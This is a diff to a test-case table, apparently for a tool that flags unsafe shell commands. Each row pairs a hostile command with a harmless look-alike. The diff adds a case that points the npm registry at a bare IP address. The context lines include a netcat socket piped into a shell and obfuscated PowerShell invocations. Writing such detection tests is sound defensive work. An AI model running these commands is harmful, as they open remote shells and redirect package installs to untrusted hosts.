@@ -32,6 +32,13 @@ export const runCases: readonly ToolCase[] = [
   ["TOOL-2008", "a cmdlet put together from pieces", "shell", "&('Ge'+'t-Date')", "&('Get-Date')"],
   ["TOOL-2008", "a text to be run, in pieces", "shell", "iex ('wri'+'te-host hi')", "write-host ('wri'+'te hi')"],
   ["TOOL-2010", "a shell that reads a socket", "bash", "nc 203.0.113.9 80 | sh", "nc -zv db 5432 | grep open"],
+  [
+    "TOOL-2032",
+    "a bare address as the registry from now on",
+    "bash",
+    "npm config set registry http://203.0.113.9",
+    "npm config set registry http://localhost:4873",
+  ],
   ["TOOL-2000", "commands nested too deep", "bash", many(40, "$(echo "), many(5, "$(echo ") + many(5, ")")],
   [
     "TOOL-2001",
